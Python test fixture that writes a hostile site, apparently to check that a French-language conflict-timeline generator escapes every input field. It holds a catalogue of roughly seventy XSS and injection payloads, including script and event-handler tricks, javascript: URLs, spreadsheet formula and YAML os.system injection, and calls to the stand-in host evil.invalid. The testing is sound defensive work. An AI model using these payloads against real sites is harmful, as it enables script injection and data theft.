# ruff: noqa: E501 -- a payload, and a line of the script that looks for them, are read more easily whole
"""Classes of injected payloads, and a site that bears one of each in every field that anybody fills in.

Each payload, were it to run, calls `tripwire` with a number of its own or asks `evil.invalid` for something.
"""

from __future__ import annotations

import html
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import yaml

EVIL = "evil.invalid"

CLASSES: dict[str, str] = {
    "script element": "<script>CALL</script>",
    "script from elsewhere": "<script src=ADDRESS></script>",
    "script in odd case": "<ScRiPt >CALL</sCrIpT >",
    "script in a script": "<scr<script>ipt>CALL</scr</script>ipt>",
    "end of the title": "</title><script>CALL</script>",
    "end of a script": "</script><script>CALL</script>",
    "end of a script in a comment": "<!--<script></script><script>CALL</script>-->",
    "end of a style": "</style><script>CALL</script>",
    "end of a text area": "</textarea><script>CALL</script>",
    "end of a comment": "--><script>CALL</script><!--",
    "end of a cdata section": "]]><script>CALL</script><![CDATA[",
    "image with an error": "<img src=x onerror=CALL>",
    "image from elsewhere": '<img src="ADDRESS">',
    "image with a slash": "<img/src=x/onerror=CALL>",
    "unclosed image": "<img src=x onerror=CALL//",
    "picture sources": '<picture><source srcset="ADDRESS"><img srcset="ADDRESS 1x"></picture>',
    "svg that loads": "<svg onload=CALL>",
    "svg script": "<svg><script>CALL</script></svg>",
    "svg animation": "<svg><animate onbegin=CALL attributeName=x dur=1s></svg>",
    "svg link": '<svg><a xlink:href="javascript:CALL"><text y=20>x</text></a></svg>',
    "svg from elsewhere": '<svg><use href="ADDRESS#x"/><image href="ADDRESS"/></svg>',
    "foreign object": "<svg><foreignObject><iframe srcdoc='<script>parent.CALL</script>'></iframe></foreignObject></svg>",
    "mathml": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=CALL&gt;">',
    "mutation by noscript": '<noscript><p title="</noscript><img src=x onerror=CALL>">',
    "mutation by template": "<template><script>CALL</script></template><p></template><img src=x onerror=CALL>",
    "frame of a script": '<iframe src="javascript:parent.CALL"></iframe>',
    "frame with a document": '<iframe srcdoc="<script>parent.CALL</script>"></iframe>',
    "frame from elsewhere": "<iframe src=ADDRESS></iframe>",
    "object": "<object data=ADDRESS></object><embed src=ADDRESS>",
    "media with an error": "<video><source onerror=CALL></video><audio src=x onerror=CALL>",
    "details that open": "<details open ontoggle=CALL>",
    "body that loads": "<body onload=CALL onpageshow=CALL>",
    "focus at once": "<input autofocus onfocus=CALL><select autofocus onfocus=CALL>",
    "marquee": "<marquee onstart=CALL>x</marquee>",
    "animation of a style": "<style>@keyframes x{}</style><p style='animation-name:x' onanimationstart=CALL>",
    "style from elsewhere": "<style>@import 'ADDRESS';*{background:url(ADDRESS)}</style><link rel=stylesheet href=ADDRESS>",
    "style attribute": '<p style="background:url(ADDRESS)">x</p>',
    "links fetched early": "<link rel=prefetch href=ADDRESS><link rel=preconnect href=//evil.invalid><link rel=icon href=ADDRESS>",
    "refresh": '<meta http-equiv=refresh content="0;url=ADDRESS">',
    "base": '<base href="ADDRESS/">',
    "form": "<form action=ADDRESS id=filters><button formaction=javascript:CALL>x</button></form>",
    "double quote and handler": '" autofocus onfocus=CALL onmouseover=CALL x="',
    "single quote and handler": "' autofocus onfocus=CALL onmouseover=CALL x='",
    "double quote and element": '"><img src=x onerror=CALL>',
    "single quote and element": "'><img src=x onerror=CALL>",
    "back quote": "`><img src=x onerror=CALL>",
    "address of a script": "javascript:CALL",
    "address of a script, spaced": "jav\tascript\n:CALL",
    "address of a script, as entities": "&#106;avascript&colon;CALL",
    "address of a script, with what is unseen": '<a href="jav&#1;ascript:CALL">x</a> [x](jav&#x200b;ascript:CALL) <a href="java&#x202e;script&#58;CALL">x</a>',
    "address of a document": "data:text/html,<script>opener.CALL</script>",
    "address of visual basic": "vbscript:CALL",
    "link to a script": '<a href="javascript:CALL">x</a><a href=" &#14; javascript:CALL">x</a>',
    "link that tells": '<a href="https://example.org/" ping="ADDRESS">x</a>',
    "markdown link to a script": "[x](javascript:CALL) <javascript:CALL> [y](<java\tscript:CALL>)",
    "markdown image": "![x](ADDRESS) ![y](https:ADDRESS)",
    "markdown title": '[x](https://example.org/ "\\" onmouseover=CALL x=\\"")',
    "template expression": "{{ 7*7 }}{% for x in y %}${CALL}#{CALL}<%= CALL %>",
    "string of a script": "';CALL//\";CALL//\\';CALL//",
    "line separators": "\u2028CALL\u2029</script>",
    "entities": "&lt;script&gt;CALL&lt;/script&gt;",
    "entities of entities": "&amp;lt;img src=x onerror=CALL&amp;gt;",
    "percent signs": "%3Cscript%3ECALL%3C/script%3E",
    "full width": "＜script＞CALL＜/script＞",
    "utf-7": "+ADw-script+AD4-CALL+ADw-/script+AD4-",
    "zero in a tag": "<scr\x00ipt>CALL</scr\x00ipt>",
    "changes of direction": "\u202e<script>CALL</script>\u202c",
    "changes of direction, as entities": "&#x202e;&#x2067;<script>CALL</script>&#1;&#x200b;",
    "names of the page's own": "<a id=search name=results></a><form name=body></form><img name=cookie id=found>",
    "formula": '=HYPERLINK("https:ADDRESS";"x")',
    "formula after a line": "\r\n=cmd|' /C calc'!A0",
    "calendar lines": "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:x\nATTACH:https:ADDRESS",
    "yaml tag": "!!python/object/apply:os.system ['x']",
}
"""Payloads by the name of their class: `CALL` stands for what trips the wire, `ADDRESS` for one that nobody may ask."""

SAFE_TO_FILE = "/\0"
"""Letters that no file's name can hold."""


class Payloads:
    """Gives payloads with numbers of their own, and remembers which number is which."""

    def __init__(self) -> None:
        self.places: dict[int, str] = {}

    def make(self, name: str, field: str) -> str:
        """The payload of a class for a field."""
        number = len(self.places) + 1
        self.places[number] = f"{name} in {field}"
        return CLASSES[name].replace("CALL", f"tripwire({number})").replace("ADDRESS", f"//{EVIL}/{number}")

    def all(self, field: str) -> str:
        """Payloads of every class for one field, on one line."""
        return " ".join(" ".join(self.make(name, field).split()) for name in CLASSES)


def write_hostile_site(site: Path) -> Payloads:
    """A site with a payload of every class in every field of its articles, and all of them in each of its settings."""
    payloads = Payloads()
    (site / "content").mkdir(parents=True)
    (site / "site.yaml").write_text(yaml.safe_dump(_settings(payloads)), "utf-8")
    for number, name in enumerate(CLASSES):
        _article(site / "content", payloads, number, name)
    _archive(site / "content", payloads)
    _pages(site / "content", payloads)
    (site / "content" / "corrections.yaml").write_text(yaml.safe_dump(list(_corrections(payloads))), "utf-8")
    return payloads


def _settings(payloads: Payloads) -> dict[str, Any]:
    def every(field: str) -> str:
        return f"{field} {payloads.all(field)}"

    return {
        "title": every("site title"),
        "description": every("site description"),
        "publisher": every("site publisher"),
        "licence": every("site licence"),
        "base_url": "https://example.org/\"onmouseover='tripwire(0)'><script>tripwire(0)</script>/",
        "language": "fr",
        "actors": [
            {"name": f"Russie {payloads.all('actor name')}", "aliases": ["Moscou", payloads.all("actor alias")]},
            *({"name": f"Acteur {number} {payloads.make(name, 'actor name')}", "aliases": [f"Acteur {number}"]}
              for number, name in enumerate(CLASSES)),
        ],
        "named_dates": {f"guerre {payloads.make(name, 'named date')}": "2022-02-24" for name in CLASSES},
        "ladder": {
            "names": {str(rung): every(f"name of rung {rung}") for rung in range(-2, 10)},
            "patterns": [{"name": every("pattern name"), "rung": 5, "language": "fr", "match": "tamponn"}],
        },
        "sources": {f"Source {payloads.make(name, 'source setting')}": {"cut": ["zzz"]} for name in CLASSES},
        "theme": {"logo": "\"><img src=x onerror=tripwire(0)>.svg"},
    }  # fmt: skip


def _article(content: Path, payloads: Payloads, number: int, name: str) -> None:
    def bearing(field: str) -> str:
        return payloads.make(name, field)

    head = {
        "title": f"Titre {number} {bearing('title')}",
        "published": "2022-10-12",
        "source": f"Source {bearing('source')}",
        "author": f"Auteur {bearing('author')}",
        "url": f"https://example.org/{number}?{bearing('address')}",
        "archive_url": f"https://archive.example.org/{number}#{bearing('archived address')}",
        "description": bearing("article description"),
        "tags": [bearing("tag")],
        "slug": bearing("slug"),
        "language": "fr",
        bearing("key"): bearing("value"),
    }
    if number % 3 == 0:
        head["url"] = bearing("bare address")
        head["archive_url"] = bearing("bare archived address")
    day = number % 27 + 1
    text = (
        f"Acteur {number} a frappé Kiev le {day} octobre 2022, {bearing('sentence')}. "
        f"La Russie a tamponné un navire le {day} septembre 2022. "
        f"Selon {bearing('speaker')}, Moscou a menacé Kiev mardi. "
        f"« {bearing('quotation')} », a déclaré Vladimir {bearing('name')} lundi.\n\n"
        f"{bearing('paragraph')}\n\n# Titre {bearing('heading')}\n\n- {bearing('item')}\n\n"
        f"> {bearing('block quotation')}\n\n`{bearing('code')}`\n\n    {bearing('code block')}\n\n"
        f"| a | b |\n|---|---|\n| {bearing('cell')} | x |\n\n"
        f'[lien {bearing("link text")}](https://example.org/{bearing("link address")} "{bearing("link title")}")\n'
    )
    kind = ".txt" if number % 5 == 4 else ".md"
    file = "".join(letter for letter in f"{number} {bearing('file name')}" if letter not in SAFE_TO_FILE)[:120]
    dumped = yaml.safe_dump(head)
    (content / f"{file}{kind}").write_text(f"---\n{dumped}---\n\n{text}", "utf-8", "surrogateescape")


def _archive(content: Path, payloads: Payloads) -> None:
    """One line for each class: metadata and bodies in all three forms, as JSON can say them."""
    with (content / "archive.jsonl").open("w", encoding="utf-8") as lines:
        for number, name in enumerate(CLASSES):
            form = ("text", "markdown", "html")[number % 3]
            record = {
                "id": f"{number}-{payloads.make(name, 'id in an archive')}",
                "title": f"Ligne {number} {payloads.make(name, 'title in an archive')}",
                "source": payloads.make(name, "source in an archive"),
                "author": [payloads.make(name, "author in an archive")],
                "published": "2022-11-12",
                "language": "fr",
                form: f"<p>Kiev a été frappée le {number % 27 + 1} novembre 2022 {payloads.make(name, form)}</p>",
            }
            lines.write(json.dumps(record) + "\n")


def _pages(content: Path, payloads: Payloads) -> None:
    """Saved web pages whose own metadata bear the payloads."""
    for number, name in enumerate(CLASSES):
        title = payloads.make(name, "page title")
        quoted = html.escape(payloads.make(name, "page metadata"), quote=True)
        data = json.dumps(
            {"@type": "NewsArticle", "headline": title, "author": {"name": payloads.make(name, "page author")}}
        )
        (content / f"page-{number}.html").write_text(
            f"<!doctype html><html lang=fr><head><title>{html.escape(title)}</title>"
            f'<meta property="og:title" content="{quoted}"><meta property="og:site_name" content="{quoted}">'
            f'<meta name="author" content="{quoted}"><link rel="canonical" href="https://example.org/p{number}?{quoted}">'
            f'<meta property="article:published_time" content="2022-12-12T10:00:00Z">'
            f'<script type="application/ld+json">{data.replace("</", "<" + chr(92) + "/")}</script></head>'
            f"<body><article><h1>{html.escape(title)}</h1>"
            f"<p>La Russie a bombardé Kiev le {number % 27 + 1} décembre 2022, {payloads.make(name, 'page text')}.</p>"
            f"<p>{payloads.make(name, 'page paragraph')}</p>"
            + "<p>Les délégations se sont quittées sans un mot de plus, disent les témoins de la scène.</p>" * 3
            + "</article></body></html>",
            "utf-8",
        )


def _corrections(payloads: Payloads) -> Iterator[dict[str, Any]]:
    for number, name in enumerate(CLASSES):
        day = number % 27 + 1
        yield {
            "date": "2023-01-01",
            "reason": f"Motif {payloads.make(name, 'reason')}",
            "add": {
                "date": f"2023-02-{day:02}",
                "id": f"ajout-{number}",
                "headline": f"Ajout {number} {payloads.make(name, 'added headline')}",
                "rung": number % 10,
                "actors": [f"Ajouté {payloads.make(name, 'added actor')}"],
                "references": [{
                    "publisher": f"Éditeur {payloads.make(name, 'reference publisher')}",
                    "url": f"https://example.org/{payloads.make(name, 'reference address')}",
                    "quote": payloads.make(name, "reference quotation"),
                }],
            },
        }  # fmt: skip
        yield {
            "date": "2023-01-02",
            "reason": f"Motif {payloads.make(name, 'reason')}",
            "entry": f"ajout-{number}",
            "note": f"Note {payloads.make(name, 'note')}",
            "change": {
                "headline": f"Corrigé {number} {payloads.make(name, 'corrected headline')}",
                "actors": [f"Corrigé {payloads.make(name, 'corrected actor')}"],
            },
        }
